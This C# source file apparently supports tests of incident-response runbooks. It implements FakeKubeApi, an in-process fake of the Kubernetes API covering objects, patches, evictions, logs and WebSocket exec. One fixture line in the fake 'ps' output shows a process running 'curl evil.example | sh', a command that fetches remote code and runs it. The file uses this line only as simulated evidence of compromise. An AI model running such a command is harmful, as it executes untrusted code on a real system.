using System.Net.WebSockets;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging;

namespace Skjold.TestSupport;

/// <summary>
/// An in-process HTTP server that speaks the parts of the Kubernetes API the incident runbooks use (there is no
/// kube-apiserver on these machines): get and list (all namespaces, fieldSelector on spec.nodeName,
/// involvedObject.name and metadata.name), create, patch (merge, strategic merge as merge, JSON patch with
/// test/remove/add/replace), delete, server-side dry run (?dryRun=All changes nothing), pod logs (with previous),
/// the Eviction subresource refusing with 429 for pods labelled <c>pdb: blocks</c>, and exec over WebSocket with
/// the v4.channel.k8s.io framing kubectl uses. Every request is recorded; <see cref="FailNext"/> makes a chosen
/// request fail once (a crash in the middle of a runbook).
/// </summary>
public sealed class FakeKubeApi : IAsyncDisposable
{
    private static readonly Dictionary<string, (string Prefix, string Plural, bool Namespaced)> KindPaths = new(StringComparer.Ordinal)
    {
        ["Pod"] = ("/api/v1", "pods", true),
        ["Secret"] = ("/api/v1", "secrets", true),
        ["ServiceAccount"] = ("/api/v1", "serviceaccounts", true),
        ["Event"] = ("/api/v1", "events", true),
        ["Node"] = ("/api/v1", "nodes", false),
        ["Namespace"] = ("/api/v1", "namespaces", false),
        ["NetworkPolicy"] = ("/apis/networking.k8s.io/v1", "networkpolicies", true),
        ["RoleBinding"] = ("/apis/rbac.authorization.k8s.io/v1", "rolebindings", true),
        ["ClusterRoleBinding"] = ("/apis/rbac.authorization.k8s.io/v1", "clusterrolebindings", false),
        ["Deployment"] = ("/apis/apps/v1", "deployments", true),
        ["StatefulSet"] = ("/apis/apps/v1", "statefulsets", true),
        ["DaemonSet"] = ("/apis/apps/v1", "daemonsets", true),
    };

    private readonly Dictionary<string, JsonObject> _objects = new(StringComparer.Ordinal);
    private readonly List<string> _requests = [];
    private readonly Lock _lock = new();
    private WebApplication _app = null!;

    public Uri Address { get; private set; } = null!;

    /// <summary>"METHOD /path" (with " dryRun" for a dry run) of a request to fail once with 500 (then the fake behaves again).</summary>
    public string? FailNext { get; set; }

    /// <summary>Pod logs by "ns/pod/container" (previous logs under "ns/pod/container/previous").</summary>
    public Dictionary<string, string> Logs { get; } = new(StringComparer.Ordinal);

    public IReadOnlyList<string> Requests
    {
        get
        {
            lock (_lock)
            {
                return [.. _requests];
            }
        }
    }

    public static async Task<FakeKubeApi> StartAsync(IEnumerable<string> objectsJson)
    {
        var api = new FakeKubeApi();
        foreach (var json in objectsJson)
        {
            api.Put(JsonNode.Parse(json)!.AsObject());
        }

        var builder = WebApplication.CreateSlimBuilder();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        builder.Logging.ClearProviders();
        api._app = builder.Build();
        api._app.UseWebSockets();
        api._app.Run(api.HandleAsync);
        await api._app.StartAsync();
        api.Address = new Uri(api._app.Urls.First());
        return api;
    }

    /// <summary>A kubeconfig for this server (no authentication).</summary>
    public string Kubeconfig => $"apiVersion: v1\nkind: Config\nclusters:\n- name: fake\n  cluster: {{server: \"{Address}\"}}\ncontexts:\n- name: fake\n  context: {{cluster: fake, user: fake}}\ncurrent-context: fake\nusers:\n- name: fake\n  user: {{token: fake-token}}\n";

    public JsonObject? Get(string path)
    {
        lock (_lock)
        {
            return _objects.TryGetValue(path, out var o) ? (JsonObject)o.DeepClone() : null;
        }
    }

    public static string PathOf(JsonObject o)
    {
        var kind = o["kind"]!.GetValue<string>();
        var (prefix, plural, namespaced) = KindPaths[kind];
        var meta = o["metadata"]!;
        var name = meta["name"]!.GetValue<string>();
        return namespaced ? $"{prefix}/namespaces/{meta["namespace"]?.GetValue<string>() ?? "default"}/{plural}/{name}" : $"{prefix}/{plural}/{name}";
    }

    public void Put(JsonObject o)
    {
        lock (_lock)
        {
            _objects[PathOf(o)] = o;
        }
    }

    private async Task HandleAsync(HttpContext ctx)
    {
        var path = ctx.Request.Path.Value!;
        var dryRun = ctx.Request.Query["dryRun"] == "All";
        var line = $"{ctx.Request.Method} {path}";
        lock (_lock)
        {
            _requests.Add(line + (dryRun ? " dryRun" : ""));
        }

        if (FailNext is { } fail && fail == line + (dryRun ? " dryRun" : ""))
        {
            FailNext = null;
            await Status(ctx, 500, "InternalError", "the fake API server failed this request on purpose");
            return;
        }

        if (path.EndsWith("/exec", StringComparison.Ordinal) && ctx.WebSockets.IsWebSocketRequest)
        {
            await ExecAsync(ctx);
            return;
        }

        var body = await new StreamReader(ctx.Request.Body).ReadToEndAsync();
        JsonObject? obj;
        lock (_lock)
        {
            obj = _objects.TryGetValue(path, out var o) ? o : null;
        }

        switch (ctx.Request.Method)
        {
            case "GET" when path.EndsWith("/log", StringComparison.Ordinal):
                var pod = path[..^"/log".Length];
                var parts = pod.Split('/');
                var key = $"{parts[4]}/{parts[6]}/{ctx.Request.Query["container"]}" + (ctx.Request.Query["previous"] == "true" ? "/previous" : "");
                if (!_objects.ContainsKey(pod))
                {
                    await Status(ctx, 404, "NotFound", "pod not found");
                }
                else if (Logs.TryGetValue(key, out var text))
                {
                    await ctx.Response.WriteAsync(text);
                }
                else
                {
                    await Status(ctx, 400, "BadRequest", $"previous terminated container \"{ctx.Request.Query["container"]}\" not found");
                }

                return;
            case "GET" when obj is not null:
                await Json(ctx, 200, obj);
                return;
            case "GET":
                await Json(ctx, 200, List(path, ctx.Request.Query["fieldSelector"].ToString()));
                return;
            case "POST" when path.EndsWith("/eviction", StringComparison.Ordinal):
                var target = path[..^"/eviction".Length];
                JsonObject? victim;
                lock (_lock)
                {
                    victim = _objects.TryGetValue(target, out var v) ? v : null;
                }

                if (victim is null)
                {
                    await Status(ctx, 404, "NotFound", "pods not found");
                }
                else if (victim["metadata"]?["labels"]?["pdb"]?.GetValue<string>() == "blocks")
                {
                    await Status(ctx, 429, "TooManyRequests", "Cannot evict pod as it would violate the pod's disruption budget.");
                }
                else
                {
                    if (!dryRun)
                    {
                        lock (_lock)
                        {
                            _objects.Remove(target);
                        }
                    }

                    await Status(ctx, 201, null, "evicted");
                }

                return;
            case "POST":
                var created = JsonNode.Parse(body)!.AsObject();
                var createdPath = path + "/" + created["metadata"]!["name"]!.GetValue<string>();
                bool exists;
                lock (_lock)
                {
                    exists = _objects.ContainsKey(createdPath);
                    if (!exists && !dryRun)
                    {
                        _objects[createdPath] = created;
                    }
                }

                if (exists)
                {
                    await Status(ctx, 409, "AlreadyExists", "already exists");
                    return;
                }

                await Json(ctx, 201, created);
                return;
            case "PATCH" when obj is null:
                await Status(ctx, 404, "NotFound", "not found");
                return;
            case "PATCH":
                var patched = (JsonObject)obj.DeepClone();
                if (ctx.Request.ContentType == "application/json-patch+json")
                {
                    if (JsonPatch(patched, JsonNode.Parse(body)!.AsArray()) is { } problem)
                    {
                        await Status(ctx, 422, "Invalid", problem);
                        return;
                    }
                }
                else
                {
                    Merge(patched, JsonNode.Parse(body)!.AsObject());
                }

                if (!dryRun)
                {
                    lock (_lock)
                    {
                        _objects[path] = patched;
                    }
                }

                await Json(ctx, 200, patched);
                return;
            case "DELETE" when obj is null:
                await Status(ctx, 404, "NotFound", "not found");
                return;
            case "DELETE":
                if (!dryRun)
                {
                    lock (_lock)
                    {
                        _objects.Remove(path);
                    }
                }

                await Status(ctx, 200, null, "deleted");
                return;
            default:
                await Status(ctx, 405, "MethodNotAllowed", "no");
                return;
        }
    }

    private JsonObject List(string path, string fieldSelector)
    {
        // /api/v1/namespaces/NS/pods, or /api/v1/pods across namespaces.
        var items = new JsonArray();
        lock (_lock)
        {
            foreach (var (key, o) in _objects.OrderBy(k => k.Key, StringComparer.Ordinal))
            {
                var parent = key[..key.LastIndexOf('/')];
                var plural = parent[(parent.LastIndexOf('/') + 1)..];
                var prefix = parent.Contains("/namespaces/", StringComparison.Ordinal) ? parent[..parent.IndexOf("/namespaces/", StringComparison.Ordinal)] : parent[..parent.LastIndexOf('/')];
                if (parent != path && $"{prefix}/{plural}" != path)
                {
                    continue;
                }

                if (fieldSelector.Length > 0)
                {
                    var eq = fieldSelector.IndexOf('=', StringComparison.Ordinal);
                    var field = fieldSelector[..eq];
                    var want = fieldSelector[(eq + 1)..];
                    JsonNode? node = o;
                    foreach (var part in field.Split('.'))
                    {
                        node = node?[part];
                    }

                    if (node?.GetValue<string>() != want)
                    {
                        continue;
                    }
                }

                items.Add(o.DeepClone());
            }
        }

        return new JsonObject { ["kind"] = "List", ["apiVersion"] = "v1", ["metadata"] = new JsonObject(), ["items"] = items };
    }

    private static string? JsonPatch(JsonObject target, JsonArray ops)
    {
        foreach (var op in ops)
        {
            var kind = op!["op"]!.GetValue<string>();
            var path = op["path"]!.GetValue<string>().Split('/', StringSplitOptions.RemoveEmptyEntries);
            JsonNode parent = target;
            foreach (var p in path[..^1])
            {
                parent = parent is JsonArray a ? a[int.Parse(p, System.Globalization.CultureInfo.InvariantCulture)]! : parent[p]!;
            }

            var last = path[^1];
            switch (kind)
            {
                case "test":
                    var actual = parent is JsonArray ta ? ta[int.Parse(last, System.Globalization.CultureInfo.InvariantCulture)] : parent[last];
                    if (!JsonNode.DeepEquals(actual, op["value"]))
                    {
                        return $"test failed at {op["path"]}";
                    }

                    break;
                case "remove" when parent is JsonArray ra:
                    ra.RemoveAt(int.Parse(last, System.Globalization.CultureInfo.InvariantCulture));
                    break;
                case "remove":
                    parent.AsObject().Remove(last);
                    break;
                case "add" or "replace" when parent is JsonArray aa:
                    if (last == "-")
                    {
                        aa.Add(op["value"]!.DeepClone());
                    }
                    else
                    {
                        aa[int.Parse(last, System.Globalization.CultureInfo.InvariantCulture)] = op["value"]!.DeepClone();
                    }

                    break;
                case "add" or "replace":
                    parent[last] = op["value"]!.DeepClone();
                    break;
                default:
                    return $"unsupported op {kind}";
            }
        }

        return null;
    }

    private static void Merge(JsonObject target, JsonObject patch)
    {
        foreach (var (k, v) in patch.ToList())
        {
            if (v is null)
            {
                target.Remove(k);
            }
            else if (v is JsonObject o && target[k] is JsonObject t)
            {
                Merge(t, o);
            }
            else
            {
                target[k] = v.DeepClone();
            }
        }
    }

    private static Task Json(HttpContext ctx, int code, JsonNode body)
    {
        ctx.Response.StatusCode = code;
        ctx.Response.ContentType = "application/json";
        return ctx.Response.WriteAsync(body.ToJsonString());
    }

    private static Task Status(HttpContext ctx, int code, string? reason, string message) =>
        Json(ctx, code, new JsonObject { ["kind"] = "Status", ["apiVersion"] = "v1", ["status"] = code < 300 ? "Success" : "Failure", ["message"] = message, ["reason"] = reason, ["code"] = code });

    private static async Task ExecAsync(HttpContext ctx)
    {
        var command = ctx.Request.Query["command"].ToArray();
        using var ws = await ctx.WebSockets.AcceptWebSocketAsync("v4.channel.k8s.io");
        async Task Send(byte channel, byte[] data)
        {
            var bytes = new byte[data.Length + 1];
            bytes[0] = channel;
            data.CopyTo(bytes, 1);
            await ws.SendAsync(bytes, WebSocketMessageType.Binary, true, CancellationToken.None);
        }

        switch (command)
        {
            case ["ps", ..]:
                await Send(1, Encoding.UTF8.GetBytes("PID   USER     COMMAND\n    1 app      /app/server\n   17 app      sh -c curl evil.example | sh\n"));
                await Send(3, "{\"metadata\":{},\"status\":\"Success\"}"u8.ToArray());
                break;
            case ["tar", ..]:
                await Send(1, Encoding.UTF8.GetBytes("fake-tar-of-the-container-filesystem\n"));
                await Send(3, "{\"metadata\":{},\"status\":\"Success\"}"u8.ToArray());
                break;
            default:
                await Send(2, Encoding.UTF8.GetBytes($"{command.FirstOrDefault()}: not found\n"));
                await Send(3, "{\"metadata\":{},\"status\":\"Failure\",\"reason\":\"NonZeroExitCode\",\"details\":{\"causes\":[{\"reason\":\"ExitCode\",\"message\":\"127\"}]}}"u8.ToArray());
                break;
        }

        await ws.CloseAsync(WebSocketCloseStatus.NormalClosure, null, CancellationToken.None);
    }

    public async ValueTask DisposeAsync() => await _app.DisposeAsync();
}
